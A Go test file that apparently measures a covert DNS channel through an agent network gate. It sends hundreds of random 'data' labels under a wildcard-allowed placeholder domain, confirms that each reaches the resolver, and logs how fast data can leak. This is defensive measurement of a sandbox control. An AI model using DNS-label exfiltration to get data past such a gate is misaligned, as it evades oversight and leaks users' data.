package gate_test

import (
	"fmt"
	"math/rand/v2"
	"os"
	"strings"
	"sync"
	"testing"
	"time"
)

// TestWildcardResolvesAnyLabel measures the channel a ".domain" entry opens:
// the gate resolves whatever label the agent asks for under it, so each
// request can carry ~250 bytes to the domain's name servers. Every distinct
// name must reach the resolver (the channel is real, not a test artefact),
// and the rate is logged for docs/networking.md.
func TestWildcardResolvesAnyLabel(t *testing.T) {
	c, img := connect(t)
	lan := newLAN(t)
	g := lan.gate(t, c, img, "gate-wildcard", ".wild.test")
	const names, workers = 600, 16
	label := func(i int) string {
		// Four 60-character labels of "data": what an exfiltrating agent sends.
		var parts []string
		for j := 0; j < 4; j++ {
			parts = append(parts, fmt.Sprintf("%04d%056x", i, rand.Uint64())[:60])
		}
		return strings.Join(parts, ".") + ".wild.test"
	}
	list := make([]string, names)
	payload := 0
	for i := range list {
		list[i] = label(i)
		payload += len(list[i]) - len(".wild.test")
	}
	work := make(chan string)
	var wg sync.WaitGroup
	start := time.Now()
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for n := range work {
				get(t, g.Addr(), "http://"+n+"/", n)
			}
		}()
	}
	for _, n := range list {
		work <- n
	}
	close(work)
	wg.Wait()
	elapsed := time.Since(start)
	b, err := os.ReadFile(lan.dnsLog)
	if err != nil {
		t.Fatal(err)
	}
	log := string(b)
	missing := 0
	for _, n := range list {
		if !strings.Contains(log, "query[A] "+n+" ") && !strings.Contains(log, "query[AAAA] "+n+" ") {
			missing++
		}
	}
	if missing > 0 {
		t.Errorf("%d of %d distinct names never reached the resolver", missing, names)
	}
	t.Logf("wildcard DNS channel: %d distinct names in %s = %.0f names/s, %.0f KB/s of label data toward the domain's name servers (%d workers)",
		names, elapsed.Round(time.Millisecond), float64(names)/elapsed.Seconds(), float64(payload)/1024/elapsed.Seconds(), workers)
}
